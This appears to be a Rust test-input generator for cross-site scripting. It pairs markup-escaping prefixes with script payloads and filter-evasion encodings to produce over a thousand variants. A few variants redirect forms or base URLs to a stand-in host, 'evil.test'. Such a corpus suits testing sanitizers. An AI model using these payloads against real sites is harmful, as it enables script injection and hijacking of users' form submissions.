//! What strangers write where they hope that it runs: every way out of a text, with everything that would run behind it.

/// Ways out of the place that a text is put in.
const EXITS: [&str; 13] = [
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "--><!--",
    "]]>",
    "\\\">",
    "</a></form>",
    "`",
];
/// What would run.
const BODIES: [&str; 16] = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    " onfocus=alert(1) autofocus x=",
    " onmouseover=alert(1) style=position:fixed;inset:0 ",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x",
    "<object data=javascript:alert(1)>",
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=https://evil.test><button autofocus>",
    "<style>@import 'https://evil.test'</style>",
    "{{constructor.constructor('alert(1)')()}}${alert(1)}<%= alert(1) %>",
];

/// Spells a text in a way that some filter lets through.
fn spelt(text: &str, way: usize) -> String {
    match way {
        0 => text.to_owned(),
        1 => text.replace('<', "&lt;").replace('>', "&gt;"),
        2 => text.replace('<', "%3C").replace('>', "%3E"),
        3 => text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
        4 => text.replace(' ', "\t"),
        _ => text
            .replace("alert", "\u{202e}alert")
            .replace('<', "<\u{200b}"),
    }
}

/// So many ways of spelling.
const WAYS: usize = 6;

/// All of them.
pub fn all() -> impl Iterator<Item = String> {
    (0..WAYS).flat_map(|way| {
        let bodies = BODIES.into_iter();
        bodies.flat_map(move |body| {
            let exits = EXITS.into_iter();
            exits.map(move |exit| spelt(&format!("{exit}{body}"), way))
        })
    })
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    #[test]
    fn there_are_more_than_a_thousand_and_no_two_alike() {
        let all: HashSet<String> = super::all().collect();
        assert!(all.len() > 1000, "{}", all.len());
    }
}
